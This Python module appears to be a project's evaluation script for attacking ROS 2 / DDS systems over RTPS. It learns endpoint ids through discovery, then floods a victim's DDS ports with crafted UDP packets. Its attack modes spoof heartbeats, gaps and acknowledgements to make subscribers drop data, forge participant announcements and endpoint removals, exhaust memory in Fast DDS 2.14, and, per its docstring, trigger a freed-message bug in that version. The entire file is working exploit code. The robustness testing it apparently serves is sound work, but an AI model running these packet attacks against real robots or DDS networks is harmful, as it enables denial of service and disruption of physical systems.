"""Attack with packets of RTPS, the protocol of DDS, from another machine: ``python -m evaluation.rtps_attack``.

The attacker joins the domain to learn the ids of publishers and subscriptions on some topics, and sends packets to all
ports of the domain on the victim. It prints the number of packets.
"""

from __future__ import annotations

import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Sequence

HEADER = b"RTPS\x02\x03\x01\x0f"
INFO_DST, HEARTBEAT, GAP, ACKNACK, DATA, DATA_FRAG = 0x0E, 0x07, 0x08, 0x06, 0x15, 0x16
KNOWN = (INFO_DST, HEARTBEAT, GAP, ACKNACK, DATA, DATA_FRAG, 0x01, 0x09, 0x0C, 0x0D, 0x12, 0x13)
PARTICIPANTS = 16  # number of participants whose ports are attacked
PUBLICATIONS_WRITER, PUBLICATIONS_READER = b"\x00\x00\x03\xc2", b"\x00\x00\x03\xc7"
SUBSCRIPTIONS_WRITER, SUBSCRIPTIONS_READER = b"\x00\x00\x04\xc2", b"\x00\x00\x04\xc7"
SPDP_WRITER, SPDP_READER = b"\x00\x01\x00\xc2", b"\x00\x01\x00\xc7"
NAMES_PORTS = range(7000, 7000 + PARTICIPANTS)  # ports of `ros_discovery_info` in all domains
NAMES_WRITER, PARTICIPANT = b"\x00\x00\x01\x03", b"\x00\x00\x01\xc1"
BATCH, PAUSE_S = 50, 0.01  # 5000 packets a second


def submessage(kind: int, content: bytes, flags: int = 1) -> bytes:
    """A submessage in little-endian order."""
    return struct.pack("<BBH", kind, flags, len(content)) + content


def noise(chance: random.Random, known: bytes) -> bytes:
    """Random bytes."""
    return chance.randbytes(chance.randrange(1, 1400))


def malformed(chance: random.Random, known: bytes) -> bytes:
    """A valid header with random submessages, whose lengths are wrong now and then."""
    prefix = known[:12] if chance.random() < 0.5 else chance.randbytes(12)
    text = HEADER + prefix
    for _ in range(chance.randrange(1, 5)):
        content = chance.randbytes(chance.randrange(0, 200))
        length = len(content) if chance.random() < 0.7 else chance.randrange(65536)
        text += struct.pack("<BBH", chance.choice(KNOWN), chance.randrange(256), length) + content
    return text


def heartbeats(chance: random.Random, known: bytes) -> bytes:
    """A heartbeat in the name of a publisher: all its messages up to a later one are gone."""
    first = chance.randrange(1, 2**20)
    numbers = struct.pack("<iIiI", 0, first, 0, first + chance.randrange(1000))
    content = bytes(4) + known[12:16] + numbers + struct.pack("<I", chance.randrange(2**31))
    return HEADER + known[:12] + submessage(HEARTBEAT, content)


def gaps(chance: random.Random, known: bytes) -> bytes:
    """A gap in the name of a publisher: its next messages are irrelevant."""
    begin = chance.randrange(1, 5000)
    content = bytes(4) + known[12:16] + struct.pack("<iIiII", 0, begin, 0, begin + 200, 0)
    return HEADER + known[:12] + submessage(GAP, content)


def samples(chance: random.Random, known: bytes) -> bytes:
    """A message in the name of a publisher with a later number: a best-effort subscription drops all before it."""
    number = struct.pack("<iI", 0, 2**30 + chance.randrange(2**20))
    content = struct.pack("<HH", 0, 16) + bytes(4) + known[12:16] + number + b"\x00\x01\x00\x00" + bytes(8)
    return HEADER + known[:12] + submessage(DATA, content, flags=5)


def endless_gap(chance: random.Random, known: bytes) -> bytes:
    """A gap in the name of a publisher: all its messages up to a number that takes days to count to."""
    content = bytes(4) + known[12:16] + struct.pack("<iIiII", 0, 1, chance.randrange(1, 2**20), 0, 0)
    return HEADER + known[:12] + submessage(GAP, content)


def distant_gap(chance: random.Random, known: bytes) -> bytes:
    """A gap in the name of a publisher, far behind its last message: Fast DDS 2.14 stores each number of it."""
    begin = chance.randrange(2**20, 2**24)
    content = bytes(4) + known[12:16] + struct.pack("<iIiII", 0, begin, 1, 0, 0)
    return HEADER + known[:12] + submessage(GAP, content)


def discovery_gap(chance: random.Random, known: bytes) -> bytes:
    """An endless gap in the announcements of publishers, in the name of a participant."""
    return endless_gap(chance, known[:12] + PUBLICATIONS_WRITER)


def freed(known: bytes, number: int) -> bytes:
    """The first part of message ``number`` in the name of a publisher, and a gap up to it.

    Fast DDS 2.14 then frees the message and leaves it in the queue of a reliable subscription.
    """
    place, size, part = struct.pack("<iI", 0, number), 30_000, 1_000
    begin = struct.pack("<HH", 0, 28) + bytes(4) + known[12:16] + place + struct.pack("<IHHI", 1, 1, part, size)
    content = bytes(4) + known[12:16] + struct.pack("<iIiII", 0, 1, 0, number + 1, 0)
    return HEADER + known[:12] + submessage(DATA_FRAG, begin + bytes(part)) + submessage(GAP, content)


def freed_messages(chance: random.Random, known: bytes) -> bytes:
    """One of the next messages, `freed`."""
    return freed(known, chance.randrange(1, 5000))


def participants(chance: random.Random, known: bytes) -> bytes:
    """The announcement of a participant that does not exist, with a lease of 100 s."""
    prefix = b"\x01\x0f" + chance.randbytes(10)
    locator = struct.pack("<iI", 1, 7410) + bytes(12) + socket.inet_aton("10.77.0.2")
    parameters = b"".join(
        struct.pack("<HH", kind, len(value)) + value
        for kind, value in (
            (0x0015, b"\x02\x03\x00\x00"),
            (0x0016, b"\x01\x0f\x00\x00"),
            (0x0050, prefix + b"\x00\x00\x01\xc1"),
            (0x0031, locator),
            (0x0032, locator),
            (0x0002, struct.pack("<iI", 100, 0)),
            (0x0058, struct.pack("<I", 0x0C3F)),
            (0x0001, b""),
        )
    )
    content = struct.pack("<HH", 0, 16) + SPDP_READER + SPDP_WRITER + struct.pack("<iI", 0, 1)
    return HEADER + prefix + submessage(DATA, content + b"\x00\x03\x00\x00" + parameters, flags=5)


def acknacks(chance: random.Random, known: bytes) -> bytes:
    """An answer in the name of a subscription, after which those that it gives itself count as old: no repairs."""
    writer, reader = known[:16], known[16:]
    numbers = struct.pack("<iIII", 0, chance.randrange(1, 100), 0, 2**31 - 1000 + chance.randrange(1000))
    return HEADER + reader[:12] + submessage(ACKNACK, reader[12:] + writer[12:] + numbers)


def removal(chance: random.Random, endpoint: bytes, writer: bytes, reader: bytes) -> bytes:
    """Discovery in the name of a participant: all news up to a later one is gone, and that one removes ``endpoint``."""
    number = struct.pack("<iI", 0, chance.randrange(100, 5000))
    heartbeat = bytes(4) + writer + number + number + struct.pack("<I", chance.randrange(2**31))
    parameters = b"".join(
        struct.pack("<HH", kind, len(value)) + value
        for kind, value in ((0x0070, endpoint), (0x0071, b"\x00\x00\x00\x03"), (0x0001, b""))
    )
    data = struct.pack("<HH", 0, 16) + reader + writer + number + parameters
    return HEADER + endpoint[:12] + submessage(HEARTBEAT, heartbeat) + submessage(DATA, data, flags=3)


def removed_publishers(chance: random.Random, known: bytes) -> bytes:
    """The news that a publisher is gone, after which its participant announces no other one."""
    return removal(chance, known[:16], PUBLICATIONS_WRITER, PUBLICATIONS_READER)


def removed_subscriptions(chance: random.Random, known: bytes) -> bytes:
    """The news that a subscription is gone, after which its participant announces no other one."""
    return removal(chance, known[16:], SUBSCRIPTIONS_WRITER, SUBSCRIPTIONS_READER)


def _string(value: bytes) -> bytes:
    padded = value + bytes(1 + -(len(value) + 1) % 4)
    return struct.pack("<I", len(value) + 1) + padded


def _news(prefix: bytes, writer: bytes, reader: bytes, number: int, content: bytes) -> bytes:
    """A message of a participant, before which all others are gone."""
    place = struct.pack("<iI", 0, number)
    beat = submessage(HEARTBEAT, reader + writer + place + place + struct.pack("<I", number))
    data = struct.pack("<HH", 0, 16) + reader + writer + place + content
    return HEADER + prefix + beat + struct.pack("<BBH", DATA, 5, 0) + data  # 0: up to the end of the packet


def node_list(endpoint: bytes, names: Sequence[bytes], number: int) -> bytes:
    """The nodes of the participant of ``endpoint``, each of which has that publisher."""
    content = b"\x00\x01\x00\x00" + endpoint[:12] + PARTICIPANT + struct.pack("<I", len(names))
    for name in names:
        content += _string(b"/") + _string(name) + struct.pack("<II", 0, 1) + endpoint[:16]
    return _news(endpoint[:12], NAMES_WRITER, bytes(4), number, content)


def publisher(prefix: bytes, topic: bytes, kind: bytes, number: int, *further: tuple[int, bytes]) -> bytes:
    """The news that a participant has another publisher, under DDS names of its topic and type.

    ``further`` parameters follow these.
    """
    guid = prefix + struct.pack(">I", 0x00100003 + (number << 8))
    parameters = b"".join(
        struct.pack("<HH", key, len(value)) + value
        for key, value in (
            (0x005A, guid),
            (0x0070, guid),
            (0x0005, _string(topic)),
            (0x0007, _string(kind)),
            (0x001A, struct.pack("<iiI", 2, 0, 100)),  # reliable
            *further,
            (0x0001, b""),
        )
    )
    return _news(prefix, PUBLICATIONS_WRITER, PUBLICATIONS_READER, number, b"\x00\x03\x00\x00" + parameters)


def endless_list(chance: random.Random, known: bytes) -> bytes:
    """The news of a publisher with 2^32 - 1 data representations, for which Fast DDS 2.14 takes gigabytes."""
    number = chance.randrange(1000, 2**15)
    count = struct.pack("<I", 2**32 - 1) + bytes(8)
    return publisher(known[:12], b"rt/list", b"std_msgs::msg::dds_::String_", number, (0x0073, count))


def names(chance: random.Random, known: bytes) -> bytes:
    """Other names of the nodes of a publisher's process: names of nodes of the graph, of no text, or many."""
    odd = (b"head", b"speech", b"\xff\xfe", b"\x1b[2J", b"x" * 200)
    many = [b"n%d" % chance.randrange(2**20) for _ in range(25)]
    return node_list(known, chance.choice((odd[:2], odd, many)), chance.randrange(1000, 2**20))


ATTACKS: dict[str, Callable[[random.Random, bytes], bytes]] = {
    "noise": noise,
    "malformed": malformed,
    "heartbeats": heartbeats,
    "gaps": gaps,
    "freed_messages": freed_messages,
    "samples": samples,
    "endless_gap": endless_gap,
    "distant_gap": distant_gap,
    "discovery_gap": discovery_gap,
    "participants": participants,
    "acknacks": acknacks,
    "removed_publishers": removed_publishers,
    "removed_subscriptions": removed_subscriptions,
    "endless_list": endless_list,
    "names": names,
}


def ports(domain: int) -> list[int]:
    """Ports of discovery and of data of the first participants of a domain, and that of multicast."""
    base = 7400 + 250 * domain
    return [base, *(base + 10 + offset for offset in range(2 * PARTICIPANTS))]


def endpoints(topics: list[str], timeout_s: float) -> list[bytes]:
    """Ids of one publisher and one subscription on each topic, one after the other; zeros if there is none."""
    from socialbot.bridge.environment import spinning_node, wait_for

    with spinning_node("attacker") as ros:
        finders = (ros.get_publishers_info_by_topic, ros.get_subscriptions_info_by_topic)
        wait_for(lambda: all(find(topic) for topic in topics for find in finders), timeout_s)
        found = [[find(topic) for find in finders] for topic in topics]
        return [b"".join(bytes(each[0].endpoint_gid) if each else bytes(16) for each in pair) for pair in found]


def main(name: str, victim: str, topics: list[str], seconds: float) -> None:
    """Attack ``victim`` for ``seconds`` in the name of the publishers and subscriptions on ``topics``."""
    known = endpoints(topics, 20.0)
    chance, made = random.Random(1), ATTACKS[name]
    targets = list(NAMES_PORTS) if made is names else ports(int(os.environ["ROS_DOMAIN_ID"]))
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print("begins", *(each.hex() for each in known), flush=True)
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        for _ in range(BATCH):
            target = targets[sent % len(targets)]
            sender.sendto(made(chance, known[sent // len(targets) % len(known)]), (victim, target))
            sent += 1
        time.sleep(PAUSE_S)
    print(sent, flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3].split(","), float(sys.argv[4]))
